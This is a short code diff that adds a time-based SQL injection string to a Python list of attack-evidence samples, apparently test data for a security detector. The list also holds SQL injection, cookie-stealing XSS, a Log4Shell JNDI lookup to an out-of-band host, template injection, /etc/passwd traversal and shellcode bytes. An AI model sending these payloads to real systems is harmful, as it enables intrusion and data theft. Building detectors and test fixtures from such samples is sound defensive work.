@@ -14,6 +14,7 @@ EVIDENCE = [
     "X-Request-Id: 550e8400-e29b-41d4-a716-446655440000",
     "rip=0x7ffff7e4d1a2 and \\x90\\x90\\x31\\xc0",
     "' OR 1=1-- -",
+    "GET /?q=x%27%20AND%20SLEEP(5)--%20- and x' AND SLEEP(5)-- -",
     "<script>alert(document.cookie)</script>",
     "${jndi:ldap://x.oast.example/a} {{7*7}} ../../../etc/passwd",
     "Apache/2.4.49, OpenSSL 1.1.1k, log4j-core-2.14.1.jar",
